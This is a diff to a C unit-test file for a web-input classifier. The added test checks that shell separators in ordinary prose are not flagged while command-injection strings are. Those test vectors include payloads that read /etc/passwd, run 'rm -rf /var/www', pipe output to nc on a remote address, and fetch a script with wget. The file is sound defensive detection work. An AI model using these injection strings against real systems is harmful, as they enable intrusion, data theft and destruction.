@@ -1,4 +1,5 @@
 #include "normalise.h"
+#include "webbody.h"
 #include "webstruct.h"
 
 #include <criterion/criterion.h>
@@ -84,9 +85,40 @@ Test(webstruct, free_text_needs_a_break_out)
     cr_assert_not(fk_webstruct_text_breaks("cat /proc/cpuinfo meaning", 25) & FK_WS_BREAK_PATH);
     cr_assert_not(fk_webstruct_text_breaks("re: meeting", 11) & FK_WS_BREAK_PATH);
     cr_assert_eq(fk_webstruct_param_field("q", 1), FK_WS_TEXT);
+    cr_assert_eq(fk_webstruct_param_field(FK_WEBBODY_FILE_TEXT, strlen(FK_WEBBODY_FILE_TEXT)),
+                 FK_WS_TEXT);
     cr_assert_eq(fk_webstruct_param_field("comment", 7), FK_WS_TEXT);
     cr_assert_eq(fk_webstruct_param_field("id", 2), FK_WS_PARAM);
     cr_assert_eq(fk_webstruct_param_field("p", 1), FK_WS_PARAM);
+}
+
+/* In what people write, a separator or a line break that ends a sentence (or joins a
+ * pasted URL's parameters) starts no command; after an argument it does. */
+Test(webstruct, free_text_separators_after_sentences_are_words)
+{
+    static const char *const prose[] = {
+        "Great article. I use sudo apt update && apt upgrade every week too.",
+        "Our script runs every night; can the report include yesterday's rows? | grep -v x",
+        "See https://example.org/docs?page=2&lang=en for the details; cat notes.txt",
+        "\xe3\x81\x8a\xe5\x95\x8f\xe3\x81\x84\xe5\x90\x88\xe3\x82\x8f\xe3\x81\x9b 10"
+        "\r\nsudo apt update && apt upgrade every week",
+        "The printer on the 3rd floor says 'paper jam' again :(\nrm -rf build",
+        "Price was 4,000 yen - is that with tax?\r\nkill -9 the old job | sort it out"};
+    EXPECT_READS(shell, FK_WS_TEXT, prose, false);
+    for (size_t i = 0; i < sizeof prose / sizeof prose[0]; i++)
+        cr_assert_not(fk_webstruct_text_breaks(prose[i], strlen(prose[i])) & FK_WS_BREAK_SHELL,
+                      "%s", prose[i]);
+    static const char *const injected[] = {
+        "127.0.0.1 && cat /etc/passwd",
+        "report.pdf; rm -rf /var/www",
+        "hello world; id",
+        "nice one | nc 203.0.113.5 4444",
+        "1 2 3 4 5; uname -a",
+        "see https://example.org/?a=1 && wget http://203.0.113.5/x.sh"};
+    EXPECT_READS(shell, FK_WS_TEXT, injected, true);
+    for (size_t i = 0; i < sizeof injected / sizeof injected[0]; i++)
+        cr_assert(fk_webstruct_text_breaks(injected[i], strlen(injected[i])) & FK_WS_BREAK_SHELL,
+                  "%s", injected[i]);
 }
 
 Test(webstruct, sql_shapes_in_each_quoting_context)
